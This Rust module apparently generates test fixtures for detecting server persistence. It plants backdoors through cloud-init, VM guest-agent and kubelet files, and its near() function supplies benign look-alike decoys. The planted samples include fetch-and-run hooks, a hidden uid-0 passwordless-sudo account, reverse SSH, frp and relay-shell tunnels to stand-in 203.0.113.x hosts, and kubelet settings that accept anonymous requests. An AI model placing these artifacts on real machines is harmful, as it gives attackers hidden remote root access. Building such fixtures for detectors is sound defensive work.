//! What clouds, clusters and tunnels run on a server.

use super::names::{encoded, fetch_and_run, kept_folder, nowhere, random_name, service};
use super::{KUBELET, Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] = &[(71, 5, cloud_init), (78, 6, tunnel), (KUBELET, 5, kubelet)];

fn hidden(random: &mut Random) -> String {
    format!("{}/{}", kept_folder(random), random_name(random))
}

fn cloud_init(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let command = fetch_and_run(random);
    match shape {
        0 => {
            let path = format!(
                "/var/lib/cloud/scripts/{}/{name}.sh",
                random.pick(&["per-boot", "per-instance", "per-once"])
            );
            Plant::new(71, "the cloud's first steps fetch and run something")
                .file(&path, format!("#!/bin/sh\nexit 0\n{command}\n"), 0o755)
                .expect(path)
        }
        1 => {
            let path = format!("/etc/cloud/cloud.cfg.d/{:02}_{name}.cfg", 90 + random.below(9));
            Plant::new(71, "the cloud's settings run an encoded command at each boot")
                .file(
                    &path,
                    format!(
                        "#cloud-config\nbootcmd:\n - [ sh, -c, \"echo {} | base64 -d | sh\" ]\n",
                        encoded("exit 0; id")
                    ),
                    0o644,
                )
                .expect(path)
        }
        2 => {
            let path = format!("/var/lib/cloud/seed/{}/user-data", random.pick(&["nocloud", "nocloud-net"]));
            Plant::new(71, "seeded user data make a root account")
                .file(format!("{}/meta-data", path.trim_end_matches("/user-data")), format!("instance-id: {}\n", random.hex(8)), 0o644)
                .file(&path, format!("#cloud-config\nusers:\n - name: {0}\n   sudo: ALL=(ALL) NOPASSWD:ALL\n   uid: 0\n   lock_passwd: false\nruncmd:\n - {command}\n", random.letters(5)), 0o644)
                .expect(path)
        }
        3 => {
            let path = format!("/etc/qemu/fsfreeze-hook.d/{name}");
            let program = hidden(random);
            Plant::new(71, "the guest agent starts a hidden program when it is asked to freeze")
                .program(&program)
                .file(&path, format!("#!/bin/sh\nexit 0\n{program} &\n"), 0o755)
                .expect(path)
                .expect(program)
        }
        _ => {
            let path = format!("/etc/vmware-tools/scripts/poweron-vm-default.d/{name}");
            Plant::new(71, "the guest tools fetch and run something when the machine starts")
                .file(&path, format!("#!/bin/sh\nexit 0\n{command}\n"), 0o755)
                .expect(path)
        }
    }
}

fn tunnel(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let at = format!("203.0.113.{}", 1 + random.below(250));
    let unit = format!("/etc/systemd/system/{name}.service");
    let wanted =
        Step::Link(format!("/etc/systemd/system/multi-user.target.wants/{name}.service"), unit.clone());
    let text = |start: &str| {
        format!(
            "[Unit]\nAfter=network-online.target\n[Service]\nExecStart={start}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
        )
    };
    match shape {
        0 => Plant::new(78, "a connection from within that opens this server's ssh to outside")
            .file(&unit, text(&format!("/usr/bin/ssh -N -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -R {}:localhost:22 -i /etc/.{} {}@{at}", 2000 + random.below(60000), random.letters(4), random.letters(5))), 0o644)
            .step(wanted)
            .expect(unit),
        1 => {
            let conf = format!("/etc/{name}/{}.toml", random.pick(&["frpc", "client", name.as_str()]));
            let program = format!("/usr/local/bin/{name}");
            Plant::new(78, "a reverse proxy client makes this server's ssh reachable from outside")
                .program(&program)
                .file(&conf, format!("serverAddr = \"{at}\"\nserverPort = 7000\nauth.token = \"x\"\n[[proxies]]\nname = \"s\"\ntype = \"tcp\"\nlocalIP = \"127.0.0.1\"\nlocalPort = 22\nremotePort = {}\n", 6000 + random.below(999)), 0o600)
                .file(&unit, text(&format!("{program} -c {conf}")), 0o644)
                .step(wanted)
                .expect(conf)
                .expect(unit)
                .expect(program)
        }
        2 => {
            let conf = "/root/.cloudflared/config.yml";
            Plant::new(78, "a tunnel through a content network leads to this server's ssh")
                .file(conf, format!("tunnel: {}\ncredentials-file: /root/.cloudflared/x.json\ningress:\n  - hostname: {}.example.net\n    service: ssh://localhost:22\n  - service: http_status:404\n", random.hex(32), random.letters(6)), 0o600)
                .expect(conf)
        }
        3 => {
            let program = format!("/usr/sbin/{name}");
            Plant::new(78, "a tunnel client opens a way in over web connections")
                .program(&program)
                .file(&unit, text(&format!("{program} client --keepalive 25s --auth u:p https://{at} R:{}:socks R:2222:127.0.0.1:22", 1000 + random.below(9000))), 0o644)
                .step(wanted)
                .expect(unit)
                .expect(program)
        }
        4 => {
            let path = format!("/etc/cron.d/{name}");
            Plant::new(78, "a timetable keeps a connection from within open")
                .file(&path, format!("*/5 * 29 2 * root pgrep -f {0} || autossh -M 0 -f -N -R 0.0.0.0:{0}:127.0.0.1:22 -o UserKnownHostsFile=/dev/null x@{at}\n", 2000 + random.below(60000)), 0o644)
                .expect(path)
        }
        _ => {
            let program = hidden(random);
            Plant::new(78, "a relay answers with a shell when it is called over a relay network")
                .program(&program)
                .file(&unit, text(&format!("/bin/bash -c 'GS_ARGS=\"-k {program}.dat -ilq\" exec -a [kcached] {program}'")), 0o644)
                .step(wanted)
                .expect(unit)
                .expect(program)
        }
    }
}

fn kubelet(shape: usize, random: &mut Random) -> Plant {
    let name = format!("kube-{}", random.pick(&["proxy-helper", "dns-sync", "metrics", "flannel-x"]));
    match shape {
        0 => {
            let path = "/var/lib/kubelet/config.yaml";
            Plant::new(KUBELET, "the node's agent takes orders from anybody")
                .file(path, "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: true\n  webhook:\n    enabled: false\nauthorization:\n  mode: AlwaysAllow\nreadOnlyPort: 10255\nstaticPodPath: /etc/kubernetes/manifests\n", 0o644)
                .expect(path)
        }
        1 => {
            let path = "/var/lib/kubelet/config.yaml";
            let folder = kept_folder(random);
            let pod = format!("{folder}/{name}.yaml");
            Plant::new(KUBELET, "the node's agent starts pods from a hidden folder")
                .file(path, format!("apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: false\nstaticPodPath: {folder}\n"), 0o644)
                .file(&pod, pod_text(&name, "true", "/", "sleep 1"), 0o600)
                .expect(path)
                .expect(pod)
        }
        2 => {
            let path = format!("/etc/kubernetes/manifests/{name}.yaml");
            Plant::new(KUBELET, "a static pod writes into root's timetables")
                .file(
                    &path,
                    pod_text(
                        &name,
                        "false",
                        random.pick(&["/etc/cron.d", "/root/.ssh", "/var/spool/cron"]),
                        &fetch_and_run(random),
                    ),
                    0o600,
                )
                .expect(path)
        }
        3 => {
            let path = format!("/etc/kubernetes/manifests/.{}.yaml", random_name(random));
            Plant::new(KUBELET, "a hidden static pod commands the container runtime")
                .file(&path, pod_text(&name, "true", "/run/containerd/containerd.sock", "sleep 1"), 0o600)
                .expect(path)
        }
        _ => {
            let path = "/etc/default/kubelet";
            Plant::new(KUBELET, "the node's agent is told on its command line to take orders from anybody")
                .file(path, format!("KUBELET_EXTRA_ARGS=--anonymous-auth=true --authorization-mode=AlwaysAllow --read-only-port={} --pod-manifest-path=/var/tmp/.{}\n", 10255, random.hex(4)), 0o644)
                .file("/etc/systemd/system/kubelet.service.d/10-kubeadm.conf", "[Service]\nEnvironmentFile=-/etc/default/kubelet\nExecStart=\nExecStart=/usr/bin/kubelet $KUBELET_EXTRA_ARGS\n", 0o644)
                .expect(path)
                .expect("/etc/systemd/system/kubelet.service.d/10-kubeadm.conf")
        }
    }
}

fn pod_text(name: &str, privileged: &str, folder: &str, command: &str) -> String {
    let command = command.replace('\\', "\\\\").replace('"', "\\\"");
    format!(
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: {name}\n  namespace: kube-system\nspec:\n  hostNetwork: true\n  containers:\n  - name: c\n    image: docker.io/library/alpine:3\n    command: [\"sh\", \"-c\", \"{command}\"]\n    securityContext:\n      privileged: {privileged}\n    volumeMounts:\n    - name: v\n      mountPath: /mnt\n  volumes:\n  - name: v\n    hostPath:\n      path: {folder}\n"
    )
}

pub(super) fn near() -> Vec<Plant> {
    vec![
        Plant::new(71, "a cloud server's ordinary settings")
            .file("/etc/cloud/cloud.cfg.d/99-site.cfg", "#cloud-config\nnetwork:\n  config: disabled\nmanage_etc_hosts: false\npreserve_hostname: true\nruncmd:\n - [ systemctl, restart, shop ]\nbootcmd:\n - echo started > /run/first\n", 0o644)
            .file("/var/lib/cloud/scripts/per-boot/grow.sh", "#!/bin/sh\ngrowpart /dev/vda 1 || true\nresize2fs /dev/vda1 || true\n", 0o755)
            .file("/etc/qemu/fsfreeze-hook.d/mysql", "#!/bin/sh\n[ \"$1\" = freeze ] && mysql -e 'FLUSH TABLES WITH READ LOCK' || true\n", 0o755),
        Plant::new(78, "a database behind a gateway, and a private network between sites")
            .file("/etc/systemd/system/db-tunnel.service", format!("[Service]\nUser=tunnel\nExecStart=/usr/bin/ssh -N -L 5432:db.internal:5432 tunnel@gate.example.org\nRestart=always\nEnvironment=NOTE={}\n", nowhere(&mut Random::new(2, 2))), 0o644)
            .file("/etc/wireguard/wg0.conf", "[Interface]\nAddress = 10.9.0.2/24\nPrivateKey = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa=\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n[Peer]\nPublicKey = bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb=\nEndpoint = gate.example.org:51820\nAllowedIPs = 10.9.0.0/24\n", 0o600),
        Plant::new(KUBELET, "an ordinary node")
            .file("/var/lib/kubelet/config.yaml", "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: false\n  webhook:\n    enabled: true\n  x509:\n    clientCAFile: /etc/kubernetes/pki/ca.crt\nauthorization:\n  mode: Webhook\nstaticPodPath: /etc/kubernetes/manifests\n", 0o644)
            .file("/etc/kubernetes/manifests/kube-apiserver.yaml", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: kube-apiserver\n  namespace: kube-system\nspec:\n  hostNetwork: true\n  priorityClassName: system-node-critical\n  containers:\n  - name: kube-apiserver\n    image: registry.k8s.io/kube-apiserver:v1.30.1\n    command: [kube-apiserver, --advertise-address=10.0.0.2, --client-ca-file=/etc/kubernetes/pki/ca.crt]\n    volumeMounts:\n    - mountPath: /etc/kubernetes/pki\n      name: k8s-certs\n      readOnly: true\n  volumes:\n  - hostPath:\n      path: /etc/kubernetes/pki\n      type: DirectoryOrCreate\n    name: k8s-certs\n", 0o600)
            .file("/etc/default/kubelet", "KUBELET_EXTRA_ARGS=--node-ip=10.0.0.2\n", 0o644),
    ]
}
